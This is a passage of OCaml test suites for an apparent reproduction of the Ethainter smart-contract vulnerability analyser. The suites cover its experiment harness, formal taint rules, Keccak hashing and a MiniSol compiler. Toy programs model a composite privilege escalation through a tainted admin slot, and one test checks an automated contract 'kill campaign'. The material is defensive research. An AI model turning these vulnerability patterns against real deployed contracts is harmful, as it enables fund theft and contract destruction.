          Alcotest.test_case "undeclared rejected" `Quick
            test_undeclared_rejected;
          Alcotest.test_case "filter and bind" `Quick test_filter_and_bind;
          Alcotest.test_case "constants in rules" `Quick
            test_constants_in_rules ] );
      ("properties", [ prop_tc_matches_dfs ]) ]
