(* Shape tests for the experiment harness: each §6 reproduction must
   exhibit the qualitative relationships the paper reports, at reduced
   scale so the suite stays fast. *)

module E = Ethainter_experiments.Experiments
module V = Ethainter_core.Vulns

let find_row rows k =
  List.find (fun (r : E.t1_row) -> r.E.t1_kind = k) rows

let test_t1_shape () =
  let rows, total = E.t1_flagged ~size:400 () in
  Alcotest.(check bool) "corpus materialized" true (total > 300);
  List.iter
    (fun (r : E.t1_row) ->
      Alcotest.(check bool)
        (V.kind_name r.E.t1_kind ^ " flagged minority")
        true
        (r.E.t1_pct < 10.0))
    rows;
  (* staticcall is the rarest class (recent opcode, §6.2) *)
  let sc = find_row rows V.UncheckedTaintedStaticcall in
  List.iter
    (fun (r : E.t1_row) ->
      if r.E.t1_kind <> V.UncheckedTaintedStaticcall then
        Alcotest.(check bool) "staticcall rarest" true
          (sc.E.t1_count <= r.E.t1_count))
    rows

let test_f6_precision_shape () =
  let r = E.f6_precision ~size:2600 ~sample:30 () in
  Alcotest.(check bool) "sampled enough" true (r.E.f6_sample >= 15);
  Alcotest.(check bool)
    (Printf.sprintf "precision in the paper's regime (%.1f%%)"
       r.E.f6_precision)
    true
    (r.E.f6_precision >= 65.0 && r.E.f6_precision <= 95.0);
  Alcotest.(check bool) "composite TPs present" true (r.E.f6_composite_tps > 0)

let test_s1_securify_shape () =
  let r = E.s1_securify ~size:200 () in
  (* Securify flags the vast majority; precision near zero *)
  Alcotest.(check bool) "high flag rate" true (r.E.s1_flag_rate > 50.0);
  Alcotest.(check bool) "low precision" true
    (r.E.s1_tp * 4 <= r.E.s1_sample);
  Alcotest.(check bool) "several violations each" true
    (r.E.s1_avg_findings >= 2.0)

let test_f7_securify2_shape () =
  let r = E.f7_securify2 ~size:250 () in
  let row name =
    List.find (fun (x : E.f7_row) -> x.E.f7_vuln = name) r.E.f7_rows
  in
  let sd = row "accessible selfdestruct" in
  let uw = row "tainted owner var. / unr. write" in
  let dc = row "tainted delegatecall" in
  (* Ethainter reports at least as many selfdestructs, more TPs *)
  Alcotest.(check bool) "ethainter >= securify2 on selfdestruct" true
    (sd.E.f7_eth_reports >= sd.E.f7_s2_reports);
  (* Securify2 floods unrestricted-write with low precision *)
  Alcotest.(check bool) "securify2 floods writes" true
    (uw.E.f7_s2_reports > 4 * uw.E.f7_eth_reports);
  (* the inline-assembly blind spot *)
  Alcotest.(check bool) "securify2 misses delegatecall" true
    (dc.E.f7_s2_tp <= dc.E.f7_eth_tp)

let test_te_teether_shape () =
  let r = E.te_teether ~size:250 () in
  (* Ethainter finds strictly more accessible selfdestructs *)
  Alcotest.(check bool) "ethainter flags more" true
    (r.E.te_eth_flags > r.E.te_teether_flags);
  (* teEther's exploit-backed flags are inside Ethainter's set *)
  Alcotest.(check bool) "teether subset of ethainter" true
    (r.E.te_overlap = r.E.te_teether_flags)

let test_e1_kill_shape () =
  let r = E.e1_kill ~size:80 () in
  Alcotest.(check bool) "some contracts flagged" true (r.E.e1_flagged > 0);
  Alcotest.(check bool) "some destroyed" true (r.E.e1_destroyed > 0);
  Alcotest.(check bool) "destroyed <= pinpointed <= flagged" true
    (r.E.e1_destroyed <= r.E.e1_pinpointed
    && r.E.e1_pinpointed <= r.E.e1_flagged);
  (* a minority of flags convert to automated kills (paper: 16.7%) *)
  Alcotest.(check bool) "kill rate is a minority share" true
    (r.E.e1_destroyed_pct_of_flagged < 60.0)

let test_rq2_efficiency_shape () =
  let r = E.rq2_efficiency ~size:150 () in
  Alcotest.(check bool) "well under the 5s/contract budget" true
    (r.E.rq2_avg_s < 1.0);
  Alcotest.(check bool) "tac loc counted" true (r.E.rq2_tac_loc > 1000)

let ratio rows k =
  (List.find (fun (r : E.f8_row) -> r.E.f8_kind = k) rows).E.f8_ratio

let test_f8a_completeness_drop () =
  let rows = E.f8a ~size:400 () in
  (* no storage modeling: strictly fewer tainted-selfdestruct reports *)
  Alcotest.(check bool) "tainted sd drops" true
    (ratio rows V.TaintedSelfdestruct < 1.0);
  List.iter
    (fun (r : E.f8_row) ->
      Alcotest.(check bool)
        (V.kind_name r.E.f8_kind ^ " does not grow")
        true (r.E.f8_ratio <= 1.0))
    rows

let test_f8b_precision_drop () =
  let rows = E.f8b ~size:400 () in
  Alcotest.(check bool) "tainted sd inflates" true
    (ratio rows V.TaintedSelfdestruct > 1.5);
  Alcotest.(check bool) "tainted owner inflates" true
    (ratio rows V.TaintedOwnerVariable > 1.5)

let test_f8c_conservative_inflation () =
  let rows = E.f8c ~size:400 () in
  Alcotest.(check bool) "tainted sd inflates moderately" true
    (ratio rows V.TaintedSelfdestruct > 1.0);
  List.iter
    (fun (r : E.f8_row) ->
      Alcotest.(check bool)
        (V.kind_name r.E.f8_kind ^ " never shrinks")
        true (r.E.f8_ratio >= 1.0))
    rows

let () =
  Alcotest.run "experiments"
    [ ( "shapes",
        [ Alcotest.test_case "T1 flagged percentages" `Slow test_t1_shape;
          Alcotest.test_case "F6 precision" `Slow test_f6_precision_shape;
          Alcotest.test_case "S1 securify" `Slow test_s1_securify_shape;
          Alcotest.test_case "F7 securify2" `Slow test_f7_securify2_shape;
          Alcotest.test_case "TE teether" `Slow test_te_teether_shape;
          Alcotest.test_case "E1 kill campaign" `Slow test_e1_kill_shape;
          Alcotest.test_case "RQ2 efficiency" `Slow test_rq2_efficiency_shape;
          Alcotest.test_case "F8a no storage" `Slow test_f8a_completeness_drop;
          Alcotest.test_case "F8b no guards" `Slow test_f8b_precision_drop;
          Alcotest.test_case "F8c conservative" `Slow
            test_f8c_conservative_inflation ] ) ]
