(* Tests for the Section-4 formal model: the Fig. 1 abstract language
   and the literal Fig. 3 / Fig. 4 rules on the Datalog engine. Each
   inference rule is exercised in isolation and in combination. *)

module L = Ethainter_ifspec.Lang
module R = Ethainter_ifspec.Rules

let analyze src = R.analyze (L.parse src)

let has l x = List.mem x l

(* ---------- language / parser ---------- *)

let test_parse_forms () =
  let p =
    L.parse
      {|
# a comment
x := INPUT()
c := CONST(42)
s := OP(x, c)
e := (sender = s)
h := HASH(sender)
g := GUARD(e, x)
SSTORE(g, c)
SLOAD(c, y)
SINK(y)
|}
  in
  Alcotest.(check int) "nine instructions" 9 (List.length p);
  match L.validate p with
  | Ok () -> ()
  | Error e -> Alcotest.fail e

let test_ssa_violations () =
  let bad = L.parse "x := INPUT()\nx := CONST(1)" in
  (match L.validate bad with
  | Error _ -> ()
  | Ok () -> Alcotest.fail "double definition must fail");
  let undef = L.parse "SINK(ghost)" in
  match L.validate undef with
  | Error _ -> ()
  | Ok () -> Alcotest.fail "undefined use must fail"

let test_parse_errors () =
  List.iter
    (fun src ->
      match L.parse src with
      | exception L.Parse_error _ -> ()
      | _ -> Alcotest.fail ("should not parse: " ^ src))
    [ "x := BOGUS(y)"; "x := CONST(notanum)"; "SSTORE(a)"; "x := " ]

(* ---------- individual rules ---------- *)

(* LoadInput + Violation *)
let test_loadinput_violation () =
  let r = analyze "x := INPUT()\nSINK(x)" in
  Alcotest.(check bool) "x input-tainted" true (has r.R.input_tainted "x");
  Alcotest.(check int) "violation at SINK" 1 (List.length r.R.violations)

(* Operation propagation *)
let test_operation_propagation () =
  let r = analyze "x := INPUT()\nc := CONST(1)\ny := OP(x, c)\nz := OP(c, y)\nSINK(z)" in
  Alcotest.(check bool) "z tainted through two ops" true
    (has r.R.input_tainted "z");
  Alcotest.(check int) "violation" 1 (List.length r.R.violations)

(* Guard-2 with a sanitizing guard: input taint blocked *)
let test_sanitizing_guard_blocks () =
  let r =
    analyze
      {|
slot := CONST(0)
SLOAD(slot, z)
p := (sender = z)
x := INPUT()
g := GUARD(p, x)
SINK(g)
|}
  in
  Alcotest.(check bool) "guard output clean" false (has r.R.input_tainted "g");
  Alcotest.(check int) "no violation" 0 (List.length r.R.violations)

(* Uguard-NDS: a guard comparing two non-sender values fails *)
let test_uguard_nds () =
  let r =
    analyze
      {|
a := CONST(1)
b := CONST(2)
p := (a = b)
x := INPUT()
g := GUARD(p, x)
SINK(g)
|}
  in
  Alcotest.(check bool) "non-sender guard is non-sanitizing" true
    (has r.R.non_san_guards "p");
  Alcotest.(check int) "violation" 1 (List.length r.R.violations)

(* Uguard-T: comparing sender against a *tainted* storage slot *)
let test_uguard_t () =
  let r =
    analyze
      {|
evil := INPUT()
slot := CONST(0)
SSTORE(evil, slot)
slot2 := CONST(0)
SLOAD(slot2, z)
p := (sender = z)
x := INPUT()
g := GUARD(p, x)
SINK(g)
|}
  in
  Alcotest.(check bool) "slot 0 tainted" true (has r.R.tainted_storage 0);
  Alcotest.(check bool) "guard defeated (Uguard-T)" true
    (has r.R.non_san_guards "p");
  Alcotest.(check int) "violation" 1 (List.length r.R.violations)

(* Guard-1: storage taint is NOT sanitized by guards *)
let test_storage_taint_passes_guards () =
  let r =
    analyze
      {|
evil := INPUT()
slot := CONST(7)
SSTORE(evil, slot)
slot2 := CONST(7)
SLOAD(slot2, dirty)
own := CONST(0)
SLOAD(own, z)
p := (sender = z)
g := GUARD(p, dirty)
SINK(g)
|}
  in
  Alcotest.(check bool) "dirty is storage-tainted" true
    (has r.R.storage_tainted "dirty");
  Alcotest.(check bool) "storage taint passes the guard" true
    (has r.R.storage_tainted "g");
  Alcotest.(check int) "violation despite sanitizing guard" 1
    (List.length r.R.violations)

(* StorageWrite-1 + StorageLoad: taint through storage *)
let test_storage_write_load () =
  let r =
    analyze
      {|
x := INPUT()
t := CONST(3)
SSTORE(x, t)
f := CONST(3)
SLOAD(f, y)
SINK(y)
|}
  in
  Alcotest.(check bool) "slot 3 tainted" true (has r.R.tainted_storage 3);
  Alcotest.(check bool) "loaded var storage-tainted" true
    (has r.R.storage_tainted "y");
  Alcotest.(check int) "violation" 1 (List.length r.R.violations)

(* StorageWrite-2: tainted value AND tainted address taints all slots *)
let test_storage_write_2 () =
  let r =
    analyze
      {|
x := INPUT()
a := INPUT()
SSTORE(x, a)
safe := CONST(9)
other := CONST(5)
SSTORE(safe, other)
rd := CONST(5)
SLOAD(rd, y)
SINK(y)
|}
  in
  (* slot 5 was written with an untainted constant, but the wild write
     may have hit it *)
  Alcotest.(check bool) "slot 5 conservatively tainted" true
    (has r.R.tainted_storage 5);
  Alcotest.(check int) "violation" 1 (List.length r.R.violations)

(* without the tainted address, the same program is clean *)
let test_storage_write_2_needs_tainted_addr () =
  let r =
    analyze
      {|
x := INPUT()
a := CONST(1)
SSTORE(x, a)
rd := CONST(5)
SLOAD(rd, y)
SINK(y)
|}
  in
  Alcotest.(check bool) "slot 5 untouched" false (has r.R.tainted_storage 5);
  Alcotest.(check int) "no violation" 0 (List.length r.R.violations)

(* ---------- Fig. 4: DS/DSA ---------- *)

let test_ds_lookup_chain () =
  let r =
    analyze
      {|
h := HASH(sender)
SLOAD(h, member)
one := CONST(1)
p := (member = one)
x := INPUT()
g := GUARD(p, x)
SINK(g)
|}
  in
  (* the guard scrutinizes a sender-keyed structure: sanitizing *)
  Alcotest.(check bool) "DS-lookup guard sanitizes" false
    (has r.R.non_san_guards "p");
  Alcotest.(check int) "no violation" 0 (List.length r.R.violations)

let test_dsa_nested_and_arith () =
  let r =
    analyze
      {|
h1 := HASH(sender)
one := CONST(1)
h2 := OP(h1, one)
h3 := HASH(h2)
SLOAD(h3, deep)
p := (deep = one)
x := INPUT()
g := GUARD(p, x)
SINK(g)
|}
  in
  (* nested hash + address arithmetic still counts as sender scrutiny *)
  Alcotest.(check bool) "nested DSA guard sanitizes" false
    (has r.R.non_san_guards "p");
  Alcotest.(check int) "no violation" 0 (List.length r.R.violations)

let test_non_sender_hash_is_not_ds () =
  let r =
    analyze
      {|
c := CONST(42)
h := HASH(c)
SLOAD(h, entry)
one := CONST(1)
p := (entry = one)
x := INPUT()
g := GUARD(p, x)
SINK(g)
|}
  in
  Alcotest.(check bool) "hash of constant is not sender-keyed" true
    (has r.R.non_san_guards "p");
  Alcotest.(check int) "violation" 1 (List.length r.R.violations)

(* ---------- §4.5 inferred sinks ---------- *)

let test_inferred_sink () =
  let r =
    analyze
      {|
slot := CONST(0)
SLOAD(slot, z)
p := (sender = z)
x := INPUT()
g := GUARD(p, x)
|}
  in
  Alcotest.(check bool) "owner variable inferred as sink" true
    (has r.R.inferred_sinks "z")

(* ---------- the composite escalation, §2 in miniature ---------- *)

let test_composite_escalation () =
  (* step 1: unguarded write taints the "admin" slot; step 2: the admin
     guard stops sanitizing; step 3: taint reaches the sink through the
     now-useless guard *)
  let r =
    analyze
      {|
attacker := INPUT()
adminslot := CONST(1)
SSTORE(attacker, adminslot)
rd := CONST(1)
SLOAD(rd, adm)
p := (sender = adm)
payload := INPUT()
g := GUARD(p, payload)
SINK(g)
|}
  in
  Alcotest.(check bool) "guard tainted" true (has r.R.non_san_guards "p");
  Alcotest.(check int) "escalated violation" 1 (List.length r.R.violations)

let test_safe_composite_counterpart () =
  (* identical but the admin slot is written from a constant: the guard
     holds and the sink is protected *)
  let r =
    analyze
      {|
trusted := CONST(123)
adminslot := CONST(1)
SSTORE(trusted, adminslot)
rd := CONST(1)
SLOAD(rd, adm)
p := (sender = adm)
payload := INPUT()
g := GUARD(p, payload)
SINK(g)
|}
  in
  Alcotest.(check bool) "guard intact" false (has r.R.non_san_guards "p");
  Alcotest.(check int) "no violation" 0 (List.length r.R.violations)

let () =
  Alcotest.run "ifspec"
    [ ( "language",
        [ Alcotest.test_case "parse forms" `Quick test_parse_forms;
          Alcotest.test_case "SSA validation" `Quick test_ssa_violations;
          Alcotest.test_case "parse errors" `Quick test_parse_errors ] );
      ( "fig3-rules",
        [ Alcotest.test_case "LoadInput/Violation" `Quick
            test_loadinput_violation;
          Alcotest.test_case "Operation-1/2" `Quick
            test_operation_propagation;
          Alcotest.test_case "sanitizing guard" `Quick
            test_sanitizing_guard_blocks;
          Alcotest.test_case "Uguard-NDS" `Quick test_uguard_nds;
          Alcotest.test_case "Uguard-T" `Quick test_uguard_t;
          Alcotest.test_case "Guard-1 (storage passes)" `Quick
            test_storage_taint_passes_guards;
          Alcotest.test_case "StorageWrite-1/StorageLoad" `Quick
            test_storage_write_load;
          Alcotest.test_case "StorageWrite-2" `Quick test_storage_write_2;
          Alcotest.test_case "StorageWrite-2 needs tainted addr" `Quick
            test_storage_write_2_needs_tainted_addr ] );
      ( "fig4-rules",
        [ Alcotest.test_case "DS lookup" `Quick test_ds_lookup_chain;
          Alcotest.test_case "nested DSA + arith" `Quick
            test_dsa_nested_and_arith;
          Alcotest.test_case "non-sender hash" `Quick
            test_non_sender_hash_is_not_ds ] );
      ( "sec4.5",
        [ Alcotest.test_case "inferred sink" `Quick test_inferred_sink ] );
      ( "composite",
        [ Alcotest.test_case "escalation" `Quick test_composite_escalation;
          Alcotest.test_case "safe counterpart" `Quick
            test_safe_composite_counterpart ] ) ]
