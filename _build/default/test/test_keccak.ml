(* Keccak-256 known-answer tests and properties. The digests below are
   the standard published Keccak-256 (pre-NIST-padding) values used by
   Ethereum. *)

module K = Ethainter_crypto.Keccak
module H = Ethainter_word.Hex
module U = Ethainter_word.Uint256

let hex_of s = H.encode (K.hash s)

let test_known_vectors () =
  Alcotest.(check string) "empty string"
    "c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470"
    (hex_of "");
  Alcotest.(check string) "abc"
    "4e03657aea45a94fc7d47ba826c8d667c0d1e6e33a64a036ec44f58fa12d6c45"
    (hex_of "abc");
  Alcotest.(check string) "quick brown fox"
    "4d741b6f1eb29cb2a9b9911c82f56fa8d73b04959d3d9d222895df6c0b28aa15"
    (hex_of "The quick brown fox jumps over the lazy dog")

let test_selectors () =
  (* canonical ERC-20 selectors *)
  let sel s = H.encode (K.selector s) in
  Alcotest.(check string) "transfer" "a9059cbb" (sel "transfer(address,uint256)");
  Alcotest.(check string) "balanceOf" "70a08231" (sel "balanceOf(address)");
  Alcotest.(check string) "approve" "095ea7b3" (sel "approve(address,uint256)");
  Alcotest.(check string) "transferFrom" "23b872dd"
    (sel "transferFrom(address,address,uint256)")

let test_rate_boundaries () =
  (* messages straddling the 136-byte rate must absorb correctly *)
  List.iter
    (fun n ->
      let m = String.make n 'x' in
      let h1 = K.hash m in
      Alcotest.(check int) (Printf.sprintf "digest length (n=%d)" n) 32
        (String.length h1);
      (* determinism *)
      Alcotest.(check string) (Printf.sprintf "deterministic (n=%d)" n)
        (H.encode h1)
        (H.encode (K.hash m)))
    [ 0; 1; 135; 136; 137; 271; 272; 273; 1000 ]

let test_distinct_inputs () =
  (* neighbouring messages should never collide *)
  let seen = Hashtbl.create 64 in
  for i = 0 to 200 do
    let h = K.hash (string_of_int i) in
    Alcotest.(check bool)
      (Printf.sprintf "no collision at %d" i)
      false (Hashtbl.mem seen h);
    Hashtbl.replace seen h ()
  done

let test_hash_word () =
  (* hash_word interprets the digest big-endian *)
  let w = K.hash_word "" in
  Alcotest.(check string) "hash_word of empty"
    "0xc5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470"
    (U.to_hex w)

let test_mapping_slot () =
  (* mapping_slot(key, slot) = keccak(pad32 key ++ pad32 slot) —
     cross-check against a direct computation *)
  let key = U.of_int 0xabc and slot = U.of_int 3 in
  let direct = K.hash_word (U.to_bytes key ^ U.to_bytes slot) in
  Alcotest.(check string) "mapping slot"
    (U.to_hex direct)
    (U.to_hex (K.mapping_slot ~key ~slot));
  (* distinct keys hit distinct slots *)
  Alcotest.(check bool) "key separation" false
    (U.equal
       (K.mapping_slot ~key:(U.of_int 1) ~slot)
       (K.mapping_slot ~key:(U.of_int 2) ~slot));
  (* distinct base slots separate too *)
  Alcotest.(check bool) "slot separation" false
    (U.equal
       (K.mapping_slot ~key ~slot:(U.of_int 0))
       (K.mapping_slot ~key ~slot:(U.of_int 1)))

let prop name count arb law =
  QCheck_alcotest.to_alcotest (QCheck.Test.make ~name ~count arb law)

let properties =
  [ prop "deterministic" 100 QCheck.(string_of_size (Gen.int_bound 500))
      (fun s -> K.hash s = K.hash s);
    prop "32-byte output" 100 QCheck.(string_of_size (Gen.int_bound 500))
      (fun s -> String.length (K.hash s) = 32);
    prop "prefix sensitivity" 100 QCheck.(string_of_size (Gen.int_bound 200))
      (fun s -> K.hash s <> K.hash (s ^ "\x00"));
  ]

let () =
  Alcotest.run "keccak"
    [ ( "unit",
        [ Alcotest.test_case "known vectors" `Quick test_known_vectors;
          Alcotest.test_case "ERC-20 selectors" `Quick test_selectors;
          Alcotest.test_case "rate boundaries" `Quick test_rate_boundaries;
          Alcotest.test_case "no collisions" `Quick test_distinct_inputs;
          Alcotest.test_case "hash_word" `Quick test_hash_word;
          Alcotest.test_case "mapping slots" `Quick test_mapping_slot ] );
      ("properties", properties) ]
