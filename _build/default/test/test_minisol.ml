(* MiniSol compiler tests: lexing, parsing, semantic checks, and —
   most importantly — differential execution: compiled contracts must
   behave per the source semantics when run on the EVM. *)

module U = Ethainter_word.Uint256
module T = Ethainter_chain.Testnet
module MS = Ethainter_minisol

let compile = MS.Codegen.compile_source

(* deploy a source and return (net, owner-account, other-account, addr) *)
let deploy_src src =
  let net = T.create () in
  let owner = T.account_of_seed "owner" in
  let other = T.account_of_seed "other" in
  T.fund_account net owner (U.of_string "1000000000000000000");
  T.fund_account net other (U.of_string "1000000000000000000");
  let r = T.deploy net ~from:owner (compile src) in
  match r.T.created with
  | Some addr -> (net, owner, other, addr)
  | None -> Alcotest.fail "deployment failed"

let word r =
  match T.return_word r with
  | Some v -> v
  | None -> Alcotest.fail "expected return value"

(* ---------- parsing ---------- *)

let test_parse_basic () =
  let c =
    MS.Parser.parse
      {|contract C { uint256 x; function f(uint256 a) public returns (uint256) { return a + x; } }|}
  in
  Alcotest.(check string) "name" "C" c.MS.Ast.cname;
  Alcotest.(check int) "one state var" 1 (List.length c.MS.Ast.state_vars);
  Alcotest.(check int) "one function" 1 (List.length c.MS.Ast.funcs)

let test_parse_mapping_types () =
  let c =
    MS.Parser.parse
      {|contract C { mapping(address => mapping(address => uint256)) m; }|}
  in
  match c.MS.Ast.state_vars with
  | [ (_, MS.Ast.TMapping (MS.Ast.TAddress, MS.Ast.TMapping _)) ] -> ()
  | _ -> Alcotest.fail "nested mapping type"

let test_parse_precedence () =
  (* 1 + 2 * 3 parses as 1 + (2*3); verified by evaluation below *)
  let src = {|
contract C { function f() public returns (uint256) { return 1 + 2 * 3; } }|} in
  let net, owner, _, addr = deploy_src src in
  let r = T.call_fn net ~from:owner ~to_:addr "f()" [] in
  Alcotest.(check string) "precedence" "0x7" (U.to_hex (word r))

let test_parse_errors () =
  List.iter
    (fun src ->
      match MS.Parser.parse src with
      | exception MS.Parser.Parse_error _ -> ()
      | exception MS.Lexer.Lex_error _ -> ()
      | _ -> Alcotest.fail ("should not parse: " ^ src))
    [ "contract C {";
      "contract C { function f( public {} }";
      "contract C { uint256 }";
      "contract { }";
      "contract C { function f() public { 1 + ; } }" ]

let test_typecheck_errors () =
  List.iter
    (fun (src, what) ->
      match MS.Typecheck.check (MS.Parser.parse src) with
      | exception MS.Typecheck.Type_error _ -> ()
      | () -> Alcotest.fail ("typecheck should fail: " ^ what))
    [ ( {|contract C { function f() public { x = 1; } }|},
        "unbound variable" );
      ( {|contract C { uint256 x; function f() public onlyY { x = 1; } }|},
        "undefined modifier" );
      ( {|contract C { function f() public returns (uint256) { return g(); } }|},
        "undefined function" );
      ( {|contract C { function f() public { _; } }|},
        "placeholder outside modifier" );
      ( {|contract C { modifier m { _; _; } function f() public m { } }|},
        "two placeholders" );
      ( {|contract C {
            function f() public returns (uint256) { return g(); }
            function g() public returns (uint256) { return f(); } }|},
        "recursion" );
      ( {|contract C { uint256 x; uint256 x; }|}, "duplicate state var" ) ]

(* ---------- execution semantics ---------- *)

let test_state_and_params () =
  let src = {|
contract C {
  uint256 total;
  function addTwice(uint256 a, uint256 b) public returns (uint256) {
    total = total + a;
    total = total + b;
    return total;
  }
}|} in
  let net, owner, _, addr = deploy_src src in
  let r = T.call_fn net ~from:owner ~to_:addr "addTwice(uint256,uint256)"
      [ U.of_int 3; U.of_int 4 ] in
  Alcotest.(check string) "3+4" "0x7" (U.to_hex (word r));
  let r2 = T.call_fn net ~from:owner ~to_:addr "addTwice(uint256,uint256)"
      [ U.of_int 1; U.of_int 2 ] in
  Alcotest.(check string) "accumulates" "0xa" (U.to_hex (word r2))

let test_constructor_runs () =
  let src = {|
contract C {
  address owner;
  uint256 magic;
  constructor() { owner = msg.sender; magic = 77; }
  function getMagic() public returns (uint256) { return magic; }
}|} in
  let net, owner, _, addr = deploy_src src in
  let r = T.call_fn net ~from:owner ~to_:addr "getMagic()" [] in
  Alcotest.(check string) "ctor ran" "0x4d" (U.to_hex (word r))

let test_require_and_guards () =
  let src = {|
contract C {
  address owner;
  uint256 v;
  constructor() { owner = msg.sender; }
  function set(uint256 x) public {
    require(msg.sender == owner);
    v = x;
  }
  function get() public returns (uint256) { return v; }
}|} in
  let net, owner, other, addr = deploy_src src in
  Alcotest.(check bool) "owner can set" true
    (T.succeeded (T.call_fn net ~from:owner ~to_:addr "set(uint256)" [ U.of_int 9 ]));
  Alcotest.(check bool) "other cannot" false
    (T.succeeded (T.call_fn net ~from:other ~to_:addr "set(uint256)" [ U.of_int 1 ]));
  let r = T.call_fn net ~from:other ~to_:addr "get()" [] in
  Alcotest.(check string) "value is owner's" "0x9" (U.to_hex (word r))

let test_modifiers_compose () =
  let src = {|
contract C {
  mapping(address => bool) vips;
  uint256 n;
  modifier onlyVip { require(vips[msg.sender]); _; }
  constructor() { vips[msg.sender] = true; }
  function bump() public onlyVip { n = n + 1; }
  function get() public returns (uint256) { return n; }
}|} in
  let net, owner, other, addr = deploy_src src in
  Alcotest.(check bool) "vip passes" true
    (T.succeeded (T.call_fn net ~from:owner ~to_:addr "bump()" []));
  Alcotest.(check bool) "non-vip blocked" false
    (T.succeeded (T.call_fn net ~from:other ~to_:addr "bump()" []))

let test_mappings_nested () =
  let src = {|
contract C {
  mapping(address => mapping(address => uint256)) allowed;
  function approve(address spender, uint256 x) public {
    allowed[msg.sender][spender] = x;
  }
  function allowance(address o, address s) public returns (uint256) {
    return allowed[o][s];
  }
}|} in
  let net, owner, other, addr = deploy_src src in
  ignore (T.call_fn net ~from:owner ~to_:addr "approve(address,uint256)"
            [ other; U.of_int 555 ]);
  let r = T.call_fn net ~from:other ~to_:addr "allowance(address,address)"
      [ owner; other ] in
  Alcotest.(check string) "nested mapping" "0x22b" (U.to_hex (word r));
  (* unset entries read zero *)
  let r0 = T.call_fn net ~from:owner ~to_:addr "allowance(address,address)"
      [ other; owner ] in
  Alcotest.(check string) "unset is zero" "0x0" (U.to_hex (word r0))

let test_if_else_while () =
  let src = {|
contract C {
  function collatzSteps(uint256 n) public returns (uint256) {
    uint256 steps = 0;
    uint256 x = n;
    while (x != 1) {
      if (x % 2 == 0) { x = x / 2; } else { x = 3 * x + 1; }
      steps = steps + 1;
    }
    return steps;
  }
}|} in
  let net, owner, _, addr = deploy_src src in
  let steps n =
    U.to_int (word (T.call_fn net ~from:owner ~to_:addr
                      "collatzSteps(uint256)" [ U.of_int n ]))
  in
  Alcotest.(check int) "collatz 1" 0 (steps 1);
  Alcotest.(check int) "collatz 6" 8 (steps 6);
  Alcotest.(check int) "collatz 27" 111 (steps 27)

let test_internal_calls () =
  let src = {|
contract C {
  function double(uint256 x) private returns (uint256) { return x * 2; }
  function quad(uint256 x) public returns (uint256) {
    return double(double(x));
  }
  function mixed(uint256 x) public returns (uint256) {
    uint256 a = double(x);
    return a + double(x + 1);
  }
}|} in
  let net, owner, _, addr = deploy_src src in
  let call f args = word (T.call_fn net ~from:owner ~to_:addr f args) in
  Alcotest.(check string) "quad" "0x14" (U.to_hex (call "quad(uint256)" [ U.of_int 5 ]));
  Alcotest.(check string) "mixed: 2x + 2(x+1) for x=5" "0x16"
    (U.to_hex (call "mixed(uint256)" [ U.of_int 5 ]))

let test_private_not_dispatched () =
  let src = {|
contract C {
  uint256 secret;
  function setSecret(uint256 x) private { secret = x; }
  function ok() public returns (uint256) { return 1; }
}|} in
  let net, owner, _, addr = deploy_src src in
  let r = T.call_fn net ~from:owner ~to_:addr "setSecret(uint256)" [ U.of_int 1 ] in
  Alcotest.(check bool) "private selector rejected" false (T.succeeded r);
  Alcotest.(check bool) "public works" true
    (T.succeeded (T.call_fn net ~from:owner ~to_:addr "ok()" []))

let test_bool_logic () =
  let src = {|
contract C {
  function test(uint256 a, uint256 b) public returns (bool) {
    return (a < b && b < 100) || a == 42;
  }
}|} in
  let net, owner, _, addr = deploy_src src in
  let call a b =
    U.to_int (word (T.call_fn net ~from:owner ~to_:addr
                      "test(uint256,uint256)" [ U.of_int a; U.of_int b ]))
  in
  Alcotest.(check int) "true: 1<2<100" 1 (call 1 2);
  Alcotest.(check int) "false: 5>3" 0 (call 5 3);
  Alcotest.(check int) "true via ==42" 1 (call 42 3);
  Alcotest.(check int) "false: b too big" 0 (call 1 200)

let test_keccak_builtin () =
  let src = {|
contract C {
  function h(uint256 x) public returns (uint256) { return keccak256(x); }
}|} in
  let net, owner, _, addr = deploy_src src in
  let r = word (T.call_fn net ~from:owner ~to_:addr "h(uint256)" [ U.of_int 7 ]) in
  Alcotest.(check string) "keccak matches library"
    (U.to_hex (Ethainter_crypto.Keccak.hash_word (U.to_bytes (U.of_int 7))))
    (U.to_hex r)

let test_raw_storage_ops () =
  let src = {|
contract C {
  function put(uint256 slot, uint256 v) public { assembly_sstore(slot, v); }
  function getIt(uint256 slot) public returns (uint256) {
    return assembly_sload(slot);
  }
}|} in
  let net, owner, _, addr = deploy_src src in
  ignore (T.call_fn net ~from:owner ~to_:addr "put(uint256,uint256)"
            [ U.of_int 1234; U.of_int 88 ]);
  let r = word (T.call_fn net ~from:owner ~to_:addr "getIt(uint256)" [ U.of_int 1234 ]) in
  Alcotest.(check string) "raw roundtrip" "0x58" (U.to_hex r)

let test_selfdestruct_stmt () =
  let src = {|
contract C {
  address beneficiary;
  constructor() { beneficiary = msg.sender; }
  function kill() public { selfdestruct(beneficiary); }
}|} in
  let net, owner, _, addr = deploy_src src in
  ignore (T.call_fn net ~from:owner ~to_:addr "kill()" []);
  Alcotest.(check bool) "gone" false (T.is_alive net addr)

(* storage layout: declaration order = slot order *)
let test_storage_layout () =
  let src = {|
contract C {
  uint256 a;
  uint256 b;
  uint256 c;
  function setAll() public { a = 1; b = 2; c = 3; }
}|} in
  let net, owner, _, addr = deploy_src src in
  ignore (T.call_fn net ~from:owner ~to_:addr "setAll()" []);
  let slot i = Ethainter_evm.State.sload (T.state net) addr (U.of_int i) in
  Alcotest.(check string) "slot0" "0x1" (U.to_hex (slot 0));
  Alcotest.(check string) "slot1" "0x2" (U.to_hex (slot 1));
  Alcotest.(check string) "slot2" "0x3" (U.to_hex (slot 2))

(* mapping slot derivation matches the Solidity convention *)
let test_mapping_slot_convention () =
  let src = {|
contract C {
  uint256 pad;
  mapping(address => uint256) m;
  function put(uint256 v) public { m[msg.sender] = v; }
}|} in
  let net, owner, _, addr = deploy_src src in
  ignore (T.call_fn net ~from:owner ~to_:addr "put(uint256)" [ U.of_int 99 ]);
  let expected_slot =
    Ethainter_crypto.Keccak.mapping_slot ~key:owner ~slot:(U.of_int 1)
  in
  Alcotest.(check string) "keccak(key . slot)" "0x63"
    (U.to_hex (Ethainter_evm.State.sload (T.state net) addr expected_slot))

let test_msg_value_and_balance () =
  let src = {|
contract Bank {
  uint256 lastDeposit;
  function deposit() public payable {
    lastDeposit = msg.value;
